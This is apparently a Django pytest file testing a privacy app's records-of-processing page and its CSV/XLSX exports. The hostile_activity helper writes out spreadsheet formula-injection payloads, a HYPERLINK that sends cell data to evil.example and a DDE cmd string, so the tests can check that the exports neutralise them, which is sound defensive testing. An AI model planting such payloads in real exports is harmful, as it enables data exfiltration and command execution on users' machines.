"""The RoPA by processing activity (issue 13): on the page, as of any date, as CSV and as XLSX."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from shipex_privacy.audit.services import record_save
from shipex_privacy.catalogue.models import PersonalDataField, ProcessingActivity, Purpose
from shipex_privacy.core import exports
from shipex_privacy.disclosures import ropa
from tests.audit.page_forms import page_version
from tests.disclosures.factories import RecipientFactory
from tests.disclosures.test_workflow import second_officer, sent  # noqa: F401 (fixture)
from tests.protection.factories import ResponsiblePersonFactory
from tests.subjects.factories import DataSubjectFactory

pytestmark = pytest.mark.django_db
ROPA = reverse("admin:disclosures_disclosure_ropa")


def by_activity(as_of=None) -> dict[str, ropa.ActivityRow]:
    with translation.override("en"):
        return {row.activity: row for row in ropa.build_activities(as_of)}


@pytest.fixture
def officer_client(client, compliance_officer):
    client.force_login(compliance_officer)
    client.cookies["django_language"] = "en"
    return client


def test_each_activity_says_what_the_authority_asks_for(compliance_officer, second_officer):  # noqa: F811
    ResponsiblePersonFactory(name="Dilshod Karimov", order_number="47-P", order_date=date(2026, 1, 12))
    court = RecipientFactory(kind="state_authority", country="KZ", legal_name="Almaty city court",
                             transfer_mechanism="adequate_country", transfer_reference="Adequacy list, item 3",
                             transfer_date=date(2026, 5, 1))
    sent(compliance_officer, second_officer, [DataSubjectFactory()], recipient=court)  # full name, for 1.3.2.2
    rows = by_activity()

    payments = rows["Payments and accounting"]
    assert payments.purposes == "1.3.2.2 Providing suitable Services, performing agreements and contracts"
    assert payments.legal_basis == "1.3.2.2: Providing the Service or performing a contract with the user"
    assert payments.subjects == "ShipEx users: senders and account holders"
    assert payments.data_categories == "Identity; Account; Payments"
    assert "Payment history (payment.history)" in payments.data
    assert "Billing and payments (UZ)" in payments.systems
    assert "Accounting records: 5 years — Law of the Republic of Uzbekistan “On accounting”" in payments.retention
    assert payments.recipients == "Almaty city court (KZ)" and payments.cross_border == "KZ"
    assert payments.transfer_mechanism == (
        "Almaty city court (KZ): The country ensures adequate protection — Adequacy list, item 3 — 01.05.2026")
    assert "Role-based access in the back office" in payments.protection_measures
    assert "Encryption of backups" not in payments.protection_measures  # planned, not in place
    assert payments.operator == "ShipEx LLC, TIN 301234567"
    assert payments.responsible_person.startswith("Dilshod Karimov, order № 47-P of ")

    support = rows["Communication with users and handling their requests"]
    assert support.recipients == "—"  # the court got the name for 1.3.2.2, which support does not serve
    assert "Recipients of shipments" in support.subjects

    analytics = rows["Statistics and research"]
    assert analytics.cross_border == "RU" and analytics.legal_basis == "1.3.2.6: Depersonalised data only"
    assert analytics.transfer_mechanism.startswith(
        "Web analytics counters (RU): The subject's consent to the cross-border transfer")
    assert len(rows) == ProcessingActivity.objects.count()


def test_descriptions_are_in_the_readers_language_as_seeded():
    account = ProcessingActivity.objects.get(code="account")
    for language, expected in (("uz", account.description_uz), ("ru", account.description_ru),
                               ("en", account.description)):
        with translation.override(language):
            rows = {row.activity: row for row in ropa.build_activities(None)}
            assert rows[account.name].description == expected
    assert account.description_uz.startswith("Ilovada yoki shipex.uz saytida")


def test_the_ropa_as_of_a_date_before_a_change_shows_the_activity_as_it_was(officer_client, compliance_officer):
    marketing = ProcessingActivity.objects.get(code="marketing")
    before = timezone.now()
    email = PersonalDataField.objects.get(code="contact.email")
    cookie = PersonalDataField.objects.get(code="technical.cookie_id")
    url = reverse("admin:catalogue_processingactivity_change", args=[marketing.pk])
    response = officer_client.post(url, {
        "code": marketing.code, "name_uz": marketing.name_uz, "name_ru": marketing.name_ru,
        "name_en": "Targeted advertising by cookie only", "description": marketing.description,
        "purposes": [Purpose.objects.get(clause="1.3.2.5").pk], "subject_categories": ["visitors"],
        "fields": [cookie.pk], "change_reason": "DPO decision: no more e-mail advertising",
        **page_version(officer_client, marketing),
    })
    assert response.status_code == 302, response.context["adminform"].form.errors
    email.storage_country = "KZ"
    record_save(instance=email, actor=compliance_officer, reason="Moved to the Almaty data centre")

    then, now = by_activity(before), by_activity()
    old = then["Targeted advertising"]
    assert "E-mail address (contact.email)" in old.data and "ShipEx users" in old.subjects
    assert old.cross_border == "RU"  # the counters, not yet the e-mail in Almaty
    new = now["Targeted advertising by cookie only"]
    assert new.data == "Cookie data (technical.cookie_id)"
    assert new.subjects == "Visitors of the website and the app"
    assert "Targeted advertising" not in now
    assert "KZ" in now["Account registration and management"].cross_border
    assert "KZ" not in then["Account registration and management"].cross_border


def test_an_activity_created_later_is_not_in_an_earlier_ropa():
    before = timezone.now()
    loyalty = ProcessingActivity.objects.create(code="loyalty", name_uz="Sodiqlik", name_ru="Лояльность",
                                                name_en="Loyalty programme", subject_categories=["customers"])
    loyalty.purposes.set([Purpose.objects.get(clause="1.3.2.5")])
    loyalty.fields.set([PersonalDataField.objects.get(code="contact.email")])
    assert "Loyalty programme" not in by_activity(before)
    assert by_activity()["Loyalty programme"].data == "E-mail address (contact.email)"


def hostile_activity(compliance_officer):
    activity = ProcessingActivity.objects.get(code="analytics")
    activity.name_en = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    activity.description = "@SUM(1+1)*cmd|' /C calc'!A0"
    record_save(instance=activity, actor=compliance_officer, reason="Test: hostile activity")
    return activity


def test_the_csv_has_a_bom_one_row_per_activity_and_no_formula(client, auditor, compliance_officer):
    hostile = hostile_activity(compliance_officer)
    client.force_login(auditor)
    client.cookies["django_language"] = "en"
    response = client.get(ROPA, {"format": "csv"})
    assert response.content.startswith(exports.CSV_BOM.encode())
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["processing activity", "description", "purposes"]
    assert len(rows) == 1 + ProcessingActivity.objects.count()
    cells = [cell for row in rows for cell in row]
    assert f"'{hostile.name_en}" in cells and f"'{hostile.description}" in cells
    assert not [cell for cell in cells if cell.startswith(exports.FORMULA_STARTS)]
    fields = list(csv.reader(io.StringIO(client.get(ROPA, {"format": "csv", "sheet": "fields"})
                                          .content.decode("utf-8-sig"))))
    assert fields[0][0] == "purpose" and any(row[2] == "contact.phone" for row in fields)


def test_the_xlsx_has_both_sheets_with_frozen_headers_filters_and_widths(client, auditor, compliance_officer):
    hostile = hostile_activity(compliance_officer)
    client.force_login(auditor)
    client.cookies["django_language"] = "en"
    response = client.get(ROPA, {"format": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Activities", "Field level"]
    activities, fields = workbook["Activities"], workbook["Field level"]

    header = [cell.value for cell in activities[2]]
    assert header == [str(h) for h in ropa.ActivityRow.HEADERS] and header[0] == "processing activity"
    assert activities.max_row == 2 + ProcessingActivity.objects.count()
    assert [cell.value for cell in fields[2]] == list(ropa.RopaRow.HEADERS)
    assert fields.max_row == 2 + len(ropa.build())
    for sheet in (activities, fields):
        assert sheet["A1"].value.startswith("Records of processing as of")
        assert sheet.freeze_panes == "A3"
        assert sheet.auto_filter.ref == f"A2:{openpyxl.utils.get_column_letter(sheet.max_column)}{sheet.max_row}"
        widths = [sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width
                  for i in range(1, sheet.max_column + 1)]
        assert all(ropa.MIN_WIDTH <= width <= ropa.MAX_WIDTH for width in widths), widths
        assert sheet[2][0].font.bold
    widths = {cell.value: activities.column_dimensions[cell.column_letter].width for cell in activities[2]}
    assert widths["personal data"] == ropa.MAX_WIDTH  # long lists of data: capped, not screen-wide
    assert widths["operator"] < widths["personal data"]

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert f"'{hostile.name_en}" in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def page_queries(client, params=None) -> int:
    """The queries of one RoPA page. A request first: Django empties the query log when a request starts,
    and a log already full from the set-up (it keeps 9000) would make the count read 0."""
    client.get(ROPA, params)
    with CaptureQueriesContext(connection) as queries:
        assert client.get(ROPA, params).status_code == 200
    return len(queries)


def test_the_page_shows_activities_and_field_level_in_constant_queries(client, auditor, compliance_officer,
                                                                      second_officer,  # noqa: F811
                                                                      django_assert_max_num_queries):
    client.force_login(auditor)
    client.cookies["django_language"] = "en"
    page = client.get(ROPA).content.decode()
    assert 'id="ropa-activities"' in page and 'id="ropa"' in page
    assert "Customs clearance of international shipments" in page and "contact.phone" in page
    past = {"as_of": timezone.localdate().isoformat()}
    few, few_then = page_queries(client), page_queries(client, past)
    assert few > 10 and few_then > 10  # really counted

    for index in range(6):
        extra = ProcessingActivity.objects.create(code=f"extra-{index}", name_uz="x", name_ru="x",
                                                  name_en=f"Extra activity {index}", subject_categories=["customers"])
        extra.purposes.set(Purpose.objects.all())
        extra.fields.set(PersonalDataField.objects.all()[:5])
    for _index in range(3):
        sent(compliance_officer, second_officer, [DataSubjectFactory()], recipient=RecipientFactory(
            kind="state_authority"))
    client.get(ROPA)
    with django_assert_max_num_queries(few):
        assert "Extra activity 5" in client.get(ROPA).content.decode()
    client.get(ROPA, past)
    with django_assert_max_num_queries(few_then):
        assert "Extra activity 5" in client.get(ROPA, past).content.decode()
